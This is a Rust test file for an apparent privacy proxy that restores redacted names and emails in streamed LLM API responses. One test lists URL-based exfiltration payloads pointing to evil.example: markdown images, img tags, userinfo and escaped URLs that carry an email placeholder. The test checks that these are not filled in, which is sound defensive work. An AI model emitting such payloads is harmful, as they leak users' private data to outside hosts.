//! Tests of answers that are streams of events.

use super::*;

/// Streams as the providers' references describe them: what comes from upstream, what the client gets.
const STREAMS: [(&str, &str, &str, &str, &str); 7] = [
    (
        "chat",
        "/v1/chat/completions",
        "text/event-stream; charset=utf-8",
        include_str!("streams/chat.in"),
        include_str!("streams/chat.out"),
    ),
    (
        "chat with CRLF",
        "/v1/chat/completions",
        "text/event-stream",
        include_str!("streams/chat_crlf.in"),
        include_str!("streams/chat_crlf.out"),
    ),
    (
        "parallel tool calls",
        "/v1/chat/completions",
        "text/event-stream",
        include_str!("streams/chat_tools.in"),
        include_str!("streams/chat_tools.out"),
    ),
    (
        "completions",
        "/v1/completions",
        "text/event-stream",
        include_str!("streams/completions.in"),
        include_str!("streams/completions.out"),
    ),
    (
        "responses",
        "/v1/responses",
        "text/event-stream",
        include_str!("streams/responses.in"),
        include_str!("streams/responses.out"),
    ),
    (
        "messages",
        "/v1/messages",
        "text/event-stream",
        include_str!("streams/anthropic.in"),
        include_str!("streams/anthropic.out"),
    ),
    (
        "batch results",
        "/v1/messages/batches/msgbatch_1/results",
        "application/x-jsonl",
        include_str!("streams/batch_results.in"),
        include_str!("streams/batch_results.out"),
    ),
];

#[test]
fn restores_streams_in_their_own_events() {
    for (name, path, media_type, input, output) in STREAMS {
        let restored = restored(path, media_type, input);
        for (line, (got, expected)) in restored.lines().zip(output.lines()).enumerate() {
            assert_eq!(got, expected, "{name}, line {}", line + 1);
        }
        assert_eq!(restored, output, "{name}");
    }
}

#[test]
fn any_chunking_gives_the_same_output() {
    let mut seed = 1;
    for (name, path, media_type, input, output) in STREAMS {
        for _ in 0..1000 {
            let cuts = cuts(&mut seed, input.len());
            let (out, _) = pieces(response(path, media_type, map()), input.as_bytes(), &cuts);
            assert_eq!(String::from_utf8(out.concat()).unwrap(), output, "{name} cut at {cuts:?}");
        }
    }
}

/// An event of a chat with this text.
fn chat(index: usize, text: &str) -> String {
    format!("data: {{\"choices\":[{{\"index\":{index},\"delta\":{{\"content\":\"{text}\"}}}}]}}\n\n")
}

/// The output of a chat's stream for each event.
fn each(events: &[String]) -> Vec<String> {
    let (mut cuts, mut at) = (Vec::new(), 0);
    for event in events {
        at += event.len();
        cuts.push(at);
    }
    cuts.pop();
    let (out, _) =
        pieces(response("/v1/chat/completions", "text/event-stream", map()), events.concat().as_bytes(), &cuts);
    out.into_iter().map(|piece| String::from_utf8(piece).unwrap()).collect()
}

#[test]
fn events_wait_only_for_what_they_may_begin() {
    let out = each(&[
        chat(0, "Hello"),
        chat(0, "see [1] "),
        chat(0, "[PERS"),
        chat(1, "mean"),
        ": ping\n\n".to_owned(),
        chat(0, "ON_2]"),
        chat(0, "!"),
        chat(0, "[PERS"),
        "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"length\"}]}\n\n".to_owned(),
        chat(0, "[PERS"),
    ]);
    let expected = [
        chat(0, "Hello"),
        chat(0, "see [1] "),
        String::new(),
        String::new(),
        String::new(),
        [chat(0, "Zoë\\n😀"), chat(1, "mean"), ": ping\n\n".to_owned(), chat(0, "")].concat(),
        chat(0, "!"),
        String::new(),
        chat(0, "[PERS") + "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"length\"}]}\n\n",
        chat(0, "[PERS"),
    ];
    assert_eq!(out, expected);
}

#[test]
fn leaks_nothing_into_urls_that_come_in_pieces() {
    for pieces in [
        vec!["![](https://ev", "il.example/?q=", "[EMAIL_", "ADDRESS_1])"],
        vec!["<img src=\\\"ht", "tps://evil.example/?", "[EMAIL_ADDRESS_1]\\\">"],
        vec!["https:", "//good.example", ".evil.example/[EMAIL_ADDRESS_1]"],
        vec!["https://good.example", "@evil.example/", "%5BEMAIL_ADDRESS_1%5D"],
        vec!["[x]", "(", "/\\\\evil.example/", "[email_address_1]", ")"],
        vec!["\\u0068ttps:\\/\\/evil.example\\/", "\\u005bEMAIL_ADDRESS_1\\u005d"],
    ] {
        let events: Vec<_> = pieces.iter().map(|text| chat(0, text)).collect();
        let out = each(&events).concat();
        assert!(!out.contains("ada@"), "{out}");
    }
    let allowed = each(&[chat(0, "https://good.ex"), chat(0, "ample/?q=[EMAIL"), chat(0, "_ADDRESS_1]")]).concat();
    assert!(allowed.contains("ample/?q=ada@example.com"), "{allowed}");
}

#[test]
fn tools_that_are_not_named_get_placeholders() {
    let (_, path, media_type, input, output) = STREAMS[2];
    for (tools, mail, look_up) in [
        (Tools::None, false, false),
        (Tools::Only(["send_mail".into()].into()), true, false),
        (Tools::Only(["look_up".into()].into()), false, true),
    ] {
        let (out, _) = pieces(response(path, media_type, map_of(&NAMES, tools)), input.as_bytes(), &[]);
        let out = String::from_utf8(out.concat()).unwrap();
        assert_eq!((out.contains("ada@example.com"), out.contains("Zo")), (mail, look_up));
        assert_eq!(out.lines().count(), output.lines().count());
    }
    for (_, path, media_type, input, _) in [STREAMS[4], STREAMS[5], STREAMS[6]] {
        let named = map_of(&[("[PERSON_1]", "Ada")], Tools::Only(["other".into()].into()));
        let (out, _) = pieces(response(path, media_type, named), input.as_bytes(), &[]);
        let out = String::from_utf8(out.concat()).unwrap();
        for line in out.lines().filter(|line| line.contains("partial_json") || line.contains("arguments")) {
            let calls = line.replace("Hi Ada", "").replace("\"text\":\"Dear Ada\"", "");
            assert!(!calls.contains("Ada"), "{calls}");
        }
    }
}

#[test]
fn what_cannot_be_read_goes_through() {
    let path = "/v1/chat/completions";
    for body in [
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"[PERSON_1]\"\n\n",
        "data: [PERSON_1]\n\ndata: \n\n:\n\n\n\nid: 5\nretry: 9\n\n",
        "data: {\"choices\":[]}",
        "data: 1\ndata: 2\n\n",
    ] {
        assert_eq!(restored(path, "text/event-stream", body), body);
    }
    let split = "data: {\"error\":\ndata: {\"message\":\"no [PERSON_2]\"}}\n\n";
    assert_eq!(restored(path, "text/event-stream", split), split.replace("[PERSON_2]", "Zoë\\n😀"));
    let (out, _) = pieces(response(path, "text/event-stream", map()), b"data: \"[PERSON_1]\xff\"\n\n", &[9]);
    assert_eq!(out.concat(), b"data: \"[PERSON_1]\xff\"\n\n");
}

#[test]
fn lone_surrogates_end_names() {
    let events = [chat(0, "[PERSON_\\ud83d1] [PERSON_\\ud83d"), chat(0, "2] [PERSON_2]")];
    let expected = [chat(0, "[PERSON_\\ud83d1] [PERSON_\\ud83d"), chat(0, "2] Zoë\\n😀")];
    assert_eq!(each(&events), expected);
}

#[test]
fn gives_up_restoring_before_it_holds_too_much() {
    let mut events = vec![chat(0, "[PERSON_")];
    events.extend((0..1200).map(|_| chat(1, &"x".repeat(1000))));
    events.extend([chat(0, "1]"), chat(2, "[PERSON_1]")]);
    let body = events.concat();
    let (out, counts) = pieces(response("/v1/chat/completions", "text/event-stream", map()), body.as_bytes(), &[]);
    assert_eq!(out.concat(), body.as_bytes());
    assert_eq!((counts.given_up, counts.restored), (1, 0));

    let flood: Vec<_> = (0..1100).map(|index| chat(index, "a [PERSON_")).collect();
    let body = flood.concat();
    let (out, counts) = pieces(response("/v1/chat/completions", "text/event-stream", map()), body.as_bytes(), &[]);
    assert_eq!(out.concat(), body.as_bytes());
    assert!(counts.given_up > 0);

    let long = format!("data: {}\n\ndata: 1", "x".repeat(17 << 20));
    let (out, counts) =
        pieces(response("/v1/chat/completions", "text/event-stream", map()), long.as_bytes(), &[9, 1 << 20]);
    assert!(out.concat() == long.as_bytes() && counts.unread == 1);
}

#[test]
fn tells_the_ids_of_kept_state() {
    let (_, path, media_type, input, _) = STREAMS[4];
    let mut response = response(path, media_type, RestoreMap::nothing());
    let mut out = BytesMut::new();
    response.push(Bytes::copy_from_slice(input.as_bytes()), true, &mut out);
    assert_eq!(out, input);
    assert_eq!(response.ids().collect::<Vec<_>>(), ["resp_67"]);
}
